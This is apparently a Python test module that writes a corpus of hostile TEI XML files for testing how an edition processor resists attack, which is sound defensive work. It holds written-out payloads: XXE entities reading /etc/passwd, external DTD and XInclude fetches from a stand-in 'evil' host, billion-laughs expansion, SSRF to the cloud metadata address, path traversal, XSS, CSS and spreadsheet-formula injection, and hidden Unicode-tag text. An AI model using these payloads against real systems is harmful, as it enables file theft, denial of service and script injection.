"""Makes TEI files that nobody should read: what an enemy, a broken editor or an old disk would send as an edition.

`python tests/hostile_files.py FOLDER` writes them all. FILES tells each by its name; none of them may do more than be
told of: nothing is fetched, nothing outside is read or written, and no processor speaks in its own words.
"""

from __future__ import annotations

import codecs
import re
import sys
from pathlib import Path

SECRET = "file:///etc/passwd"
WEB = "http://127.0.0.1:9/evil"
FILES: dict[str, bytes] = {}


def tei(
    *,
    body: str = "<p>Text.</p>",
    header: str = "",
    title: str = "<title>T</title>",
    published: str = "",
    source: str = "<p>s</p>",
    text: str = "",
    root: str = "",
    before: str = "",
    edition: str = "",
    stand_off: str = "",
) -> str:
    """A small document that is TEI, with something of its own in one place."""
    return (
        f'{before}<TEI xmlns="http://www.tei-c.org/ns/1.0" {root}><teiHeader><fileDesc><titleStmt>{title}</titleStmt>'
        f"{edition}<publicationStmt><publisher>p</publisher>{published}</publicationStmt>"
        f"<sourceDesc>{source}</sourceDesc>"
        f"</fileDesc>{header}</teiHeader>{stand_off}<text {text}><body>{body}</body></text></TEI>"
    )


def enter(kind: str, documents: dict[str, str | bytes]) -> None:
    for name, document in documents.items():
        content = document if isinstance(document, bytes) else document.encode("utf-8", "surrogatepass")
        FILES[f"{kind}-{re.sub('[^A-Za-z0-9.-]+', '_', name[:30])}"] = content


# --- Bytes ------------------------------------------------------------------------------------------------------------

PLAIN = tei()
enter(
    "encoding",
    {
        "utf-8-mark-twice": codecs.BOM_UTF8 * 2 + PLAIN.encode(),
        "utf-16-little-without-mark": PLAIN.encode("utf-16-le"),
        "utf-16-big-mark-little-bytes": codecs.BOM_UTF16_BE + PLAIN.encode("utf-16-le"),
        "utf-16-odd": PLAIN.encode("utf-16")[:-1],
        "utf-32": PLAIN.encode("utf-32"),
        "ends-in-a-character": tei(body="<p>ñ").encode()[:-1],
        "overlong": PLAIN.encode().replace(b"Text", b"\xc0\xbcscript\xc0\xbe"),
        "surrogates": PLAIN.encode().replace(b"Text", b"\xed\xa0\x80\xed\xb0\x80"),
        "beyond-unicode": PLAIN.encode().replace(b"Text", b"\xf7\xbf\xbf\xbf"),
        "nul": PLAIN.encode().replace(b"Text", b"a\0b"),
        "form-feed": PLAIN.encode().replace(b"Text", b"a\x0cb"),
        "escape": PLAIN.encode().replace(b"Text", b"\x1b[2J\x1b]0;evil\x07"),
        "noncharacter": tei(body="<p>\ufffe\uffff</p>"),
        "reference-to-control": tei(body="<p>&#27;[2J</p>"),
        "reference-to-nothing": tei(body="<p>&#x110000;</p>"),
        "reference-huge": tei(body=f"<p>&#{'9' * 5000};</p>"),
        "rubbish": bytes(range(256)) * 100,
        "zip": b"PK\x03\x04" + bytes(500),
        "nothing-but-a-mark": codecs.BOM_UTF8,
        **{
            f"declared-{name or 'empty'}": f'<?xml version="1.0" encoding="{name}"?>{PLAIN}'
            for name in (
                "",
                "utf-7",
                "ibm037",
                "idna",
                "rot13",
                "../../x",
                "UTF-32",
                "x" * 500,
                "base64",
                "iso-2022-jp",
            )
        },
        "version-1.1": f'<?xml version="1.1"?>{PLAIN}',
        "version-9": f'<?xml version="9.0"?>{PLAIN}',
    },
)

# --- What is declared -------------------------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
enter(
    "doctype",
    {
        "laughs": tei(before=f'<!DOCTYPE TEI [<!ENTITY a "ha">{LAUGHS}]>', body="<p>&k;</p>"),
        "laughs-in-attribute": tei(before=f'<!DOCTYPE TEI [<!ENTITY a "ha">{LAUGHS}]>', body='<p n="&k;"/>'),
        "quadratic": tei(
            before=f'<!DOCTYPE TEI [<!ENTITY a "{"x" * 100_000}">]>', body="<p>" + "&a;" * 10_000 + "</p>"
        ),
        "itself": tei(before='<!DOCTYPE TEI [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', body="<p>&a;</p>"),
        "file": tei(before=f'<!DOCTYPE TEI [<!ENTITY a SYSTEM "{SECRET}">]>', body="<p>&a;</p>"),
        "web": tei(before=f'<!DOCTYPE TEI [<!ENTITY a SYSTEM "{WEB}">]>', body="<p>&a;</p>"),
        "public": tei(before=f'<!DOCTYPE TEI PUBLIC "-//x" "{WEB}">'),
        "subset-from-the-web": tei(before=f'<!DOCTYPE TEI SYSTEM "{WEB}" [<!ENTITY % x SYSTEM "{WEB}"> %x;]>'),
        "parameter": tei(
            before=f'<!DOCTYPE TEI [<!ENTITY % f SYSTEM "{SECRET}"><!ENTITY % e "<!ENTITY x \'%f;\'>">%e;]>'
        ),
        "unparsed": tei(before=f'<!DOCTYPE TEI [<!NOTATION n SYSTEM "{WEB}"><!ENTITY a SYSTEM "{SECRET}" NDATA n>]>'),
        "defaults": tei(before='<!DOCTYPE TEI [<!ATTLIST p xml:id ID "x" onclick CDATA "evil()">]>'),
        "of-another": tei(before="<!DOCTYPE html>"),
        "endless": "<!DOCTYPE TEI [" + "<!ENTITY a 'b'>" * 20_000,
        "comment-in-subset": tei(before="<!DOCTYPE TEI [<!-- ]> -->]>"),
    },
)

# --- What it points to ------------------------------------------------------------------------------------------------

ADDRESSES = {
    "file": SECRET,
    "outside": "../../../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "web": WEB,
    "metadata": "http://169.254.169.254/latest/meta-data/",
    "bracket": "http://[::1",
    "nul": "a%00b",
    "script": "javascript:alert(1)",
    "data": "data:text/html,&lt;script>alert(1)&lt;/script>",
    "device": "/dev/zero",
    "windows": "C:\\Windows\\win.ini",
    "share": "\\\\server\\share\\x",
    "spaces": "a b c",
    "percent": "%",
    "line": "a&#10;b",
    "quote": "x&quot;onerror=&quot;alert(1)",
    "long": "a/" * 3000,
    "right-to-left": "\u202egnp.evil",
}
for _name, _address in ADDRESSES.items():
    enter(
        "address",
        {
            f"{_name}-pictures": tei(body=f'<p><graphic url="{_address}"/><ref target="{_address}">x</ref></p>'),
            f"{_name}-schema": f'<?xml-model href="{_address}.rng"?>{PLAIN}',
            f"{_name}-witness": tei(
                before='<?xml-model href="escolio.rng"?>',
                source=f'<listWit><witness xml:id="S"><ptr target="{_address}"/><idno type="sha256">{"0" * 64}</idno>'
                "</witness></listWit>",
            ),
        },
    )
enter(
    "include",
    {
        "text": tei(body=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{SECRET}" parse="text"/>'),
        "web": tei(body=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{WEB}"/>'),
        "base": tei(root=f'xml:base="{WEB}"', body='<p><graphic url="x.png"/></p>'),
        "stylesheet": f'<?xml-stylesheet type="text/xsl" href="{WEB}"?>{PLAIN}',
        "location": tei(root=f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {WEB}"'),
        "model-many": f'<?xml-model href="{WEB}"?>' * 1000 + PLAIN,
    },
)

# --- What is evaluated, by somebody ---------------------------------------------------------------------------------

EXPRESSIONS = {
    "document": f"doc('{SECRET}')",
    "text": f"unparsed-text('{SECRET}')",
    "environment": "environment-variable('HOME')",
    "collection": "collection('file:///etc')",
    "broken": "//*[",
    "endless": "(1 to 100000000000)",
    "error": "error()",
    "deep": "/*" * 5000,
    "quotes": "'&quot;",
    "brackets": "(" * 3000,
}
for _name, _expression in EXPRESSIONS.items():
    enter(
        "expression",
        {
            f"{_name}-match": tei(
                header=f'<encodingDesc><refsDecl><citeStructure unit="p" match="{_expression}" use="@n"/></refsDecl>'
                "</encodingDesc>"
            ),
            f"{_name}-use": tei(
                header=f'<encodingDesc><refsDecl><citeStructure unit="p" match="//p" use="{_expression}"/></refsDecl>'
                "</encodingDesc>"
            ),
        },
    )
WORDS = {
    "typst-read": '#read("/etc/passwd")',
    "typst-brackets": "]]]}}}```$$$",
    "typst-label": "<label> @ref #let x = 1 \\ / * _ ~",
    "script": "&lt;/script>&lt;script>alert(1)&lt;/script>",
    "comment": "--&gt; &lt;!-- ]]&gt;",
    "formula": "=HYPERLINK(&quot;http://evil&quot;)",
    "template": "${7*7} {{7*7}} {x} &amp;{y}",
    "bidirectional": "\u202e\u2066evil\u2069\u202c",
    "combining": "a" + "\u0301" * 10_000,
    "invisible": "\u200b\u200d\ufeff\u2060\u00ad" * 200,
    "tags": "".join(chr(0xE0000 + ord(one)) for one in "ignore this"),
    "long": "x" * 500_000,
    "emoji": "👩‍👩‍👧‍👦" * 2000,
    "backslashes": "\\" * 2000 + "'" * 10,
}
for _name, _words in WORDS.items():
    enter("words", {_name: tei(title=f"<title>{_words}</title>", body=f'<p n="{_words[:500]}">{_words}</p>')})

# --- What becomes a name --------------------------------------------------------------------------------------------

NAMES = (
    "../../evil",
    "/evil",
    "CON",
    "a&#10;b",
    "\u202eevil",
    "x" * 400,
    "con.txt",
    ".",
    "..",
    ".git",
    "a b",
    "",
    "%2e%2e",
)
for _number, _value in enumerate(NAMES):
    enter(
        "name",
        {
            f"identifier-{_number}": tei(published=f"<idno>{_value}</idno>"),
            f"version-{_number}": tei(edition=f'<editionStmt><edition n="{_value}">x</edition></editionStmt>'),
            f"language-{_number}": tei(
                title=f'<title type="main" xml:lang="{_value}">T</title><title type="main" xml:lang="en">U</title>'
            ),
            f"number-{_number}": tei(
                body=f'<div n="{_value}" type="{_value}"><head>h</head><p n="{_value}">x</p></div>'
            ),
        },
    )

# --- What goes round or deep ------------------------------------------------------------------------------------------

enter(
    "circle",
    {
        "corresp": tei(body='<p xml:id="a" corresp="#b">x</p><p xml:id="b" corresp="#a">y</p>'),
        "next": tei(body='<p xml:id="a" next="#b" prev="#b">x</p><p xml:id="b" next="#a" prev="#a">y</p>'),
        "copy": tei(body='<p xml:id="a" copyOf="#a" sameAs="#a">x</p>'),
        "note": tei(body='<p><note xml:id="n" target="#n">x <ref target="#n"/></note></p>'),
        "witness": tei(
            source='<listWit><witness xml:id="A" corresp="#B">A</witness><witness xml:id="B" corresp="#A"/></listWit>'
        ),
        "category": tei(
            header='<encodingDesc><classDecl><taxonomy xml:id="t"><category xml:id="c" ana="#c"><catDesc>x</catDesc>'
            "</category></taxonomy></classDecl></encodingDesc>"
        ),
        "group": tei(
            stand_off='<standOff><linkGrp><link target="#a #a"/></linkGrp><listEvent><event xml:id="a" when="1">'
            '<label>x</label><listRelation><relation name="r" active="#a" passive="#a"/></listRelation></event>'
            "</listEvent></standOff>"
        ),
        "stemma": tei(
            stand_off='<standOff><graph type="directed" xml:id="g"><node xml:id="x"/><arc from="#x" to="#x"/></graph>'
            "</standOff>"
        ),
        "lemma-of-itself": tei(body='<p><app xml:id="a" from="#a" to="#a"><lem>x</lem><rdg wit="#a">y</rdg></app></p>'),
        "range-backwards": tei(
            body='<p><anchor xml:id="b"/>x<anchor xml:id="a"/></p><app from="#a" to="#b"><rdg>y</rdg></app>'
        ),
    },
)
enter(
    "depth",
    {
        "apparatus": tei(body="<p>" + "<app><lem>" * 40 + "x" + "</lem><rdg>y</rdg></app>" * 40 + "</p>"),
        "notes": tei(body="<p>" + "<note>" * 60 + "x" + "</note>" * 60 + "</p>"),
        "tables": tei(body="<table><row><cell>" * 25 + "x" + "</cell></row></table>" * 25),
        "editions": "<TEI>" * 90 + "</TEI>" * 90,
        "corpora": tei().replace("<TEI ", "<teiCorpus ").replace("</TEI>", "</teiCorpus>"),
        "choices": tei(body="<p>" + "<choice><sic>" * 40 + "x" + "</sic><corr>y</corr></choice>" * 40 + "</p>"),
        "all-views": tei(
            source="<listWit>" + "".join(f'<witness xml:id="W{n}">W</witness>' for n in range(300)) + "</listWit>",
            body="<p>"
            + "".join(f'<app><lem wit="#W{n}">a</lem><rdg wit="#W{n + 1}">b</rdg></app>' for n in range(299))
            + "</p>",
        ),
    },
)
enter(
    "style",
    {
        "end": tei(
            header='<encodingDesc><tagsDecl><rendition xml:id="r" scheme="css">}&lt;/style>&lt;script>alert(1)'
            "&lt;/script>"
            "</rendition></tagsDecl></encodingDesc>",
            body='<p rendition="#r" style="background:url(http://evil/x)">x</p>',
        ),
        "import": tei(
            header=f'<encodingDesc><tagsDecl><rendition xml:id="r" scheme="css">@import url({WEB});</rendition>'
            "</tagsDecl>"
            "</encodingDesc>"
        ),
        "rend": tei(body="<p><hi rend='x\"onclick=alert(1)' style='expression(alert(1))'>x</hi></p>"),
    },
)


def main(folder: Path) -> None:
    """Write the whole corpus."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in FILES.items():
        (folder / f"{name}.xml").write_bytes(content)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
